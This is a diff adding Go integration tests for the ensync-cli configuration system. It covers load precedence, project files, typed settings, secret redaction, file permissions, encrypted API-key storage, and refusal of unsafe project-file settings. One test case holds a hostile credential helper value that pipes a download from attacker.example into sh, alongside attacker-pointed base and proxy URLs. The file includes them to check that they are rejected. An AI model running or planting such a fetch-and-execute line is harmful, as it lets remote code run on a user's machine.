@@ -0,0 +1,317 @@
+package integration
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/spf13/pflag"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"gopkg.in/yaml.v3"
+
+	"github.com/rossi1/ensync-cli/internal/config"
+	"github.com/rossi1/ensync-cli/internal/credential"
+)
+
+func TestConfigLoadPrecedence(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "config.yaml")
+	require.NoError(t, os.WriteFile(file, []byte(`
+base_url: http://file.example
+rate_limit: 3
+timeout: 7s
+profiles:
+  prod:
+    rate_limit: 5
+    output: yaml
+`), 0o600))
+
+	t.Setenv("ENSYNC_API_KEY", "")
+	t.Setenv("ENSYNC_PROFILE", "")
+	t.Setenv("ENSYNC_TIMEOUT", "2s")
+
+	flags := pflag.NewFlagSet("test", pflag.ContinueOnError)
+	flags.Bool("debug", false, "")
+	require.NoError(t, flags.Parse([]string{"--debug"}))
+
+	cfg, err := config.Load(config.LoadOptions{File: file, Profile: "prod", Flags: flags, Dir: t.TempDir()})
+	require.NoError(t, err)
+
+	assert.Equal(t, "http://file.example", cfg.BaseURL)
+	assert.Equal(t, 5.0, cfg.RateLimit)
+	assert.Equal(t, "yaml", cfg.Output)
+	assert.Equal(t, 2*time.Second, cfg.Timeout)
+	assert.True(t, cfg.Debug)
+	assert.Equal(t, 20, cfg.RateBurst)
+	assert.Empty(t, cfg.APIKey)
+
+	origins := map[string]string{}
+	for _, setting := range cfg.Settings() {
+		origins[setting.Key] = setting.Origin.String()
+	}
+	assert.Equal(t, "file:"+file, origins["base_url"])
+	assert.Equal(t, "profile:prod", origins["rate_limit"])
+	assert.Equal(t, "env:ENSYNC_TIMEOUT", origins["timeout"])
+	assert.Equal(t, "flag:--debug", origins["debug"])
+	assert.Equal(t, "default", origins["rate_burst"])
+}
+
+func TestConfigLoadProjectFile(t *testing.T) {
+	file := filepath.Join(t.TempDir(), "config.yaml")
+	require.NoError(t, os.WriteFile(file, []byte(`
+output: json
+profiles:
+  staging:
+    base_url: http://staging.example
+    output: json
+`), 0o600))
+
+	t.Setenv("ENSYNC_PROFILE", "")
+	t.Setenv("ENSYNC_OUTPUT", "")
+
+	root := t.TempDir()
+	dir := filepath.Join(root, "services", "orders")
+	require.NoError(t, os.MkdirAll(dir, 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(root, config.ProjectFile), []byte(`
+profile: staging
+namespace: orders
+manifest: events.yaml
+output: yaml
+`), 0o644))
+
+	found, err := config.FindProjectFile(dir)
+	require.NoError(t, err)
+	assert.Equal(t, filepath.Join(root, config.ProjectFile), found)
+
+	cfg, err := config.Load(config.LoadOptions{File: file, Dir: dir})
+	require.NoError(t, err)
+
+	assert.Equal(t, "staging", cfg.Profile)
+	assert.Equal(t, "http://staging.example", cfg.BaseURL)
+	assert.Equal(t, "yaml", cfg.Output)
+	assert.Equal(t, "orders", cfg.Namespace)
+	assert.Equal(t, filepath.Join(root, "events.yaml"), cfg.Manifest)
+	assert.Equal(t, found, cfg.ProjectFile)
+}
+
+func TestConfigLoadRefusesProjectFileWithAPIKey(t *testing.T) {
+	dir := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(dir, config.ProjectFile), []byte(`
+profiles:
+  dev:
+    api_key: secret
+`), 0o644))
+
+	t.Setenv("ENSYNC_CONFIG_DIR", t.TempDir())
+
+	_, err := config.Load(config.LoadOptions{Dir: dir})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "profiles.dev.api_key")
+	assert.NotContains(t, err.Error(), "secret")
+}
+
+// readConfigFile decodes the config file written by the CLI
+func readConfigFile(t *testing.T, cli *cli) map[string]interface{} {
+	t.Helper()
+	data, err := os.ReadFile(filepath.Join(cli.Dir, "config.yaml"))
+	require.NoError(t, err)
+	settings := map[string]interface{}{}
+	require.NoError(t, yaml.Unmarshal(data, &settings))
+	return settings
+}
+
+func TestConfigSetStoresStrings(t *testing.T) {
+	cli := newCLI(t, nil)
+
+	cli.MustRun("config", "set", "api_key", "0123")
+	cli.MustRun("config", "set", "namespace", "1e5")
+	cli.MustRun("config", "set", "metadata_file", "0x1f")
+	cli.MustRun("config", "set", "credentials_key_file", "12345678901234567890")
+	cli.MustRun("--profile", "prod", "config", "set", "output", "yes")
+
+	settings := readConfigFile(t, cli)
+	assert.Equal(t, "0123", settings["api_key"])
+	assert.Equal(t, "1e5", settings["namespace"])
+	assert.Equal(t, "0x1f", settings["metadata_file"])
+	assert.Equal(t, "12345678901234567890", settings["credentials_key_file"])
+	assert.Equal(t, "yes", settings["profiles"].(map[string]interface{})["prod"].(map[string]interface{})["output"])
+
+	assert.Equal(t, "1e5\n", cli.MustRun("config", "get", "namespace"))
+	assert.Equal(t, "12345678901234567890\n", cli.MustRun("config", "get", "credentials_key_file"))
+}
+
+func TestConfigSetTypedValues(t *testing.T) {
+	cli := newCLI(t, nil)
+
+	cli.MustRun("config", "set", "confirm_mutations", "true")
+	cli.MustRun("config", "set", "rate_burst", "10")
+	cli.MustRun("config", "set", "rate_limit", "2.5")
+	cli.MustRun("config", "set", "timeout", "30s")
+	cli.MustRun("config", "set", "retry.max_attempts", "3")
+	cli.MustRun("config", "set", "tls.pinned_spki", "[a, b]")
+	cli.MustRun("--profile", "prod", "config", "set", "confirm_mutations", "false")
+	cli.MustRun("config", "set", "roles.reader.receive", "orders/created")
+
+	settings := readConfigFile(t, cli)
+	assert.Equal(t, true, settings["confirm_mutations"])
+	assert.Equal(t, 10, settings["rate_burst"])
+	assert.Equal(t, 2.5, settings["rate_limit"])
+	assert.Equal(t, "30s", settings["timeout"])
+	assert.Equal(t, 3, settings["retry"].(map[string]interface{})["max_attempts"])
+	assert.Equal(t, []interface{}{"a", "b"}, settings["tls"].(map[string]interface{})["pinned_spki"])
+	assert.Equal(t, false, settings["profiles"].(map[string]interface{})["prod"].(map[string]interface{})["confirm_mutations"])
+	assert.Equal(t, []interface{}{"orders/created"}, settings["roles"].(map[string]interface{})["reader"].(map[string]interface{})["receive"])
+
+	invalid := map[string]string{
+		"confirm_mutations": "maybe",
+		"rate_burst":        "ten",
+		"rate_limit":        "fast",
+		"timeout":           "soon",
+	}
+	for key, value := range invalid {
+		_, stderr, err := cli.Run("", "config", "set", key, value)
+		require.Error(t, err, key)
+		assert.Contains(t, stderr, `invalid value "`+value+`" for `+key)
+	}
+	assert.Equal(t, 10, readConfigFile(t, cli)["rate_burst"])
+}
+
+func TestConfigViewRedactsSecrets(t *testing.T) {
+	cli := newCLI(t, nil)
+
+	cli.MustRun("config", "set", "api_key", "top-level-secret")
+	cli.MustRun("--profile", "prod", "config", "set", "api_key", "profile-secret")
+	cli.MustRun("config", "set", "base_url", "https://ensync.example.com")
+
+	view := cli.MustRun("config", "view")
+	assert.NotContains(t, view, "top-level-secret")
+	assert.NotContains(t, view, "profile-secret")
+	assert.Equal(t, 2, strings.Count(view, "'********'")+strings.Count(view, `"********"`))
+	assert.Contains(t, view, "https://ensync.example.com")
+}
+
+func TestConfigFilePermissions(t *testing.T) {
+	cli := newCLI(t, nil)
+	path := filepath.Join(cli.Dir, "config.yaml")
+
+	cli.MustRun("config", "set", "api_key", "secret")
+	info, err := os.Stat(path)
+	require.NoError(t, err)
+	assert.Equal(t, os.FileMode(0o600), info.Mode().Perm())
+
+	require.NoError(t, os.Chmod(path, 0o644))
+	_, stderr, err := cli.Run("", "config", "get", "api_key")
+	require.NoError(t, err)
+	assert.Contains(t, stderr, "has permissions 0644")
+
+	cli.MustRun("config", "set", "output", "yaml")
+	info, err = os.Stat(path)
+	require.NoError(t, err)
+	assert.Equal(t, os.FileMode(0o600), info.Mode().Perm())
+}
+
+func TestConfigInit(t *testing.T) {
+	server := newFakeServer(t)
+	cli := newCLI(t, server)
+
+	stdout, stderr, err := cli.Run(server.URL+"\n"+testAPIKey+"\npassphrase\npassphrase\n", "--profile", "dev", "config", "init")
+	require.NoError(t, err, stderr)
+	assert.Contains(t, stderr, "API key: ")
+	assert.Contains(t, stderr, "Testing connection to "+server.URL+"... ok")
+	assert.Contains(t, stderr, "New passphrase: ")
+	assert.Contains(t, stdout, "Config written to")
+	assert.Contains(t, stdout, `API key of profile "dev" stored encrypted`)
+
+	dev := readConfigFile(t, cli)["profiles"].(map[string]interface{})["dev"].(map[string]interface{})
+	assert.Equal(t, server.URL, dev["base_url"])
+	assert.NotContains(t, dev, "api_key")
+
+	data, err := os.ReadFile(filepath.Join(cli.Dir, credential.StoreFile))
+	require.NoError(t, err)
+	assert.NotContains(t, string(data), testAPIKey)
+
+	// The stored key is used by the commands of the profile
+	cli.Setenv("ENSYNC_API_KEY", "")
+	cli.Setenv("ENSYNC_PASSPHRASE", "passphrase")
+	cli.MustRun("--profile", "dev", "event", "list")
+
+	// A key the server refuses is only saved when confirmed
+	_, stderr, err = cli.Run(server.URL+"\nwrong-key\nn\n", "--profile", "dev", "config", "init")
+	require.Error(t, err)
+	assert.Contains(t, stderr, "config not saved")
+	cli.MustRun("--profile", "dev", "event", "list")
+}
+
+func TestConfigInitPlainText(t *testing.T) {
+	server := newFakeServer(t)
+	cli := newCLI(t, server)
+
+	_, stderr, err := cli.Run(server.URL+"\n"+testAPIKey+"\n", "--profile", "dev", "config", "init", "--plain-text")
+	require.NoError(t, err, stderr)
+	assert.NotContains(t, stderr, "passphrase")
+
+	dev := readConfigFile(t, cli)["profiles"].(map[string]interface{})["dev"].(map[string]interface{})
+	assert.Equal(t, testAPIKey, dev["api_key"])
+	assert.NoFileExists(t, filepath.Join(cli.Dir, credential.StoreFile))
+
+	// Storing the key encrypted later removes the plain-text one
+	_, stderr, err = cli.Run(server.URL+"\n"+testAPIKey+"\npassphrase\npassphrase\n", "--profile", "dev", "config", "init")
+	require.NoError(t, err, stderr)
+	dev = readConfigFile(t, cli)["profiles"].(map[string]interface{})["dev"].(map[string]interface{})
+	assert.NotContains(t, dev, "api_key")
+}
+
+func TestConfigLoadRefusesProjectFileSettings(t *testing.T) {
+	tests := []struct {
+		name    string
+		content string
+		key     string
+	}{
+		{"credential helper", "credential_helper: curl https://attacker.example | sh\n", "credential_helper"},
+		{"base url", "base_url: https://attacker.example\n", "base_url"},
+		{"proxy url", "proxy_url: http://attacker.example:3128\n", "proxy_url"},
+		{"no proxy", "no_proxy: '*'\n", "no_proxy"},
+		{"insecure tls", "tls:\n  insecure_skip_verify: true\n", "tls"},
+		{"ca file", "tls:\n  ca_file: ca.pem\n", "tls"},
+		{"credentials key file", "credentials_key_file: key\n", "credentials_key_file"},
+		{"metadata file", "metadata_file: /tmp/metadata.json\n", "metadata_file"},
+		{"profiles", "profiles:\n  dev:\n    base_url: https://attacker.example\n", "profiles"},
+		{"current context", "current_context: prod\n", "current_context"},
+		{"api key", "api_key: secret\n", "api_key"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			content := "profile: dev\nnamespace: orders\n" + tt.content
+			require.NoError(t, os.WriteFile(filepath.Join(dir, config.ProjectFile), []byte(content), 0o644))
+
+			t.Setenv("ENSYNC_CONFIG_DIR", t.TempDir())
+
+			_, err := config.Load(config.LoadOptions{Dir: dir})
+			require.Error(t, err)
+			assert.Contains(t, err.Error(), "refusing to use project config file")
+			assert.Contains(t, err.Error(), "it sets "+tt.key)
+			assert.NotContains(t, err.Error(), "attacker")
+			assert.NotContains(t, err.Error(), "secret")
+		})
+	}
+}
+
+func TestProjectFileCannotRunCredentialHelper(t *testing.T) {
+	server := newFakeServer(t)
+	cli := newCLI(t, server)
+	// Without an API key the credential helper would be asked for one
+	cli.Setenv("ENSYNC_API_KEY", "")
+
+	marker := filepath.Join(cli.Dir, "ran")
+	require.NoError(t, os.WriteFile(filepath.Join(cli.WorkDir, config.ProjectFile),
+		[]byte("credential_helper: touch "+marker+"\n"), 0o644))
+
+	_, stderr, err := cli.Run("", "event", "list")
+	require.Error(t, err)
+	assert.Contains(t, stderr, "it sets credential_helper")
+	assert.NoFileExists(t, marker)
+}